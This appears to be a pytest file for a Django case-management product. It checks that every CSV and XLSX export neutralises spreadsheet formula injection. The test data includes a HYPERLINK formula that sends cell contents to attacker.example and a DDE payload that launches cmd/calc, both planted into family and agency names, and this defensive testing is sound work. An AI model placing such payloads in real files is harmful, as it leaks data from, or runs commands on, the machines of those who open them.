"""Every CSV and XLSX the product writes is inert in a spreadsheet (OWASP CSV injection):
a formula-looking name comes out as text, and numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cases.access import visible_cases
from cases.models import Case
from partners.roles import Role
from reporting.exports.safe_cells import append_row, csv_writer, safe_text
from reporting.returns.cin import cin_table
from reporting.returns.exports import annex_a_file, ssd_file
from reporting.returns.families_first import identifiers_table, progress_table
from reporting.scorecard.periods import Period
from tests.partners.factories import ZoneFactory, member
from tests.reporting.returns_data import INSPECTION, build_borough

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
DANGEROUS = (FORMULA, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")


@pytest.fixture
def borough():  # type: ignore[no-untyped-def]
    """The returns' borough, with the Mensahs' Ama renamed by someone up to no good."""
    built = build_borough()
    built.ama.family_name = FORMULA
    built.ama.save(update_fields=["family_name"])
    for case in (built.mensah, built.clarke):
        case.family.name = FORMULA
        case.family.save(update_fields=["name"])
    for agency in (built.council, built.school):  # agency names reach SSD and Annex A
        agency.name = FORMULA if agency == built.council else f"{FORMULA} school"
        agency.save(update_fields=["name"])
    return built


def csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def assert_inert_csv(content: bytes) -> None:
    cells = csv_cells(content)
    assert "'" + FORMULA in cells  # the name is there, as text
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell


def assert_inert_xlsx(content: bytes) -> None:
    book = load_workbook(io.BytesIO(content))
    found = False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if cell.value == FORMULA:
                    found = True
                    assert cell.data_type == "s" and cell.quotePrefix
    assert found


# --------------------------------------------------------------------------- the one place


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_looking_text_is_quoted_for_csv(value):
    assert safe_text(value) == "'" + value


@pytest.mark.parametrize(
    "value", [12, -3, 4.5, dt.date(2026, 1, 5), None, "", "-3", "+4.5", "-12%"]
)
def test_numbers_dates_and_plain_text_stay_as_they_are(value):
    assert safe_text(value) == value
    assert safe_text("Mensah") == "Mensah"


def test_the_csv_writer_neutralises_every_row():
    out = io.StringIO()
    csv_writer(out).writerows([["name", "count"], [FORMULA, 3], ["-", -2]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "count"],
        ["'" + FORMULA, "3"],
        ["'-", "-2"],
    ]


def test_a_workbook_row_keeps_numbers_numeric_and_formulas_as_text():
    book = Workbook()
    sheet = book.active
    append_row(sheet, [FORMULA, 7, -1.5, "@x"])
    formula, seven, negative, at = sheet[1]
    assert (formula.data_type, formula.quotePrefix, formula.value) == ("s", True, FORMULA)
    assert (seven.data_type, seven.value) == ("n", 7)
    assert (negative.data_type, negative.value) == ("n", -1.5)
    assert at.data_type == "s"


# --------------------------------------------------------------------------- every export


def test_the_ssd_zip_is_inert(borough):
    produced, files = ssd_file(cases=visible_cases(borough.coordinator))
    with zipfile.ZipFile(io.BytesIO(produced.content)) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    assert contents == files
    assert_inert_csv(b"\r\n".join(c.decode("utf-8-sig").encode() for c in contents.values()))


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_annex_a_is_inert(borough, file_format):
    produced = annex_a_file(
        cases=visible_cases(borough.coordinator),
        inspection_date=INSPECTION,
        file_format=file_format,
    )
    if file_format == "xlsx":
        assert_inert_xlsx(produced.content)
        return
    with zipfile.ZipFile(io.BytesIO(produced.content)) as archive:
        lists = [archive.read(name).decode("utf-8-sig") for name in archive.namelist()]
    assert_inert_csv("\r\n".join(lists).encode())


def test_the_data_linking_identifiers_file_is_inert(borough):
    table = identifiers_table(cases=visible_cases(borough.manager), quarter=Period.parse("2026-Q1"))
    assert_inert_csv(table.csv_bytes())


def test_the_families_first_progress_file_is_inert(borough):
    table = progress_table(
        cases=visible_cases(borough.coordinator), quarter=Period.parse("2026-Q1")
    )
    cells = csv_cells(table.csv_bytes())
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_the_cin_census_file_is_inert(borough):
    borough.lily.family_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    borough.lily.save(update_fields=["family_name"])
    content = cin_table(cases=Case.objects.all(), year=2025).csv_bytes()
    assert not any(c.startswith(("=", "+", "@")) for c in csv_cells(content))


@pytest.fixture
def formula_zone():  # type: ignore[no-untyped-def]
    return ZoneFactory(name=FORMULA, code="formula")


def test_the_scorecard_csv_and_xlsx_are_inert(formula_zone, signed_in_client):
    client = signed_in_client(member(Role.MANAGER))
    query = f"?period=2026-01&zone={formula_zone.pk}"

    content = client.get(reverse("scorecard-csv") + query).content
    cells = csv_cells(content)
    assert f"'{FORMULA} zone" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)

    book = load_workbook(io.BytesIO(client.get(reverse("scorecard-xlsx") + query).content))
    values = [cell for row in book["Scorecard"].iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in values)
    scopes = [c for c in values if c.value == f"{FORMULA} zone"]
    assert scopes and all(c.data_type == "s" and c.quotePrefix for c in scopes)


def test_the_supporting_families_return_is_inert_and_keeps_its_numbers(signed_in_client):
    client = signed_in_client(member(Role.MANAGER))
    response = client.get(reverse("supporting-families-return") + "?quarter=2026-Q1")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Quarter", "Figure", "Value"]
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    assert all(row[2].isdigit() or row[2] for row in rows[1:])
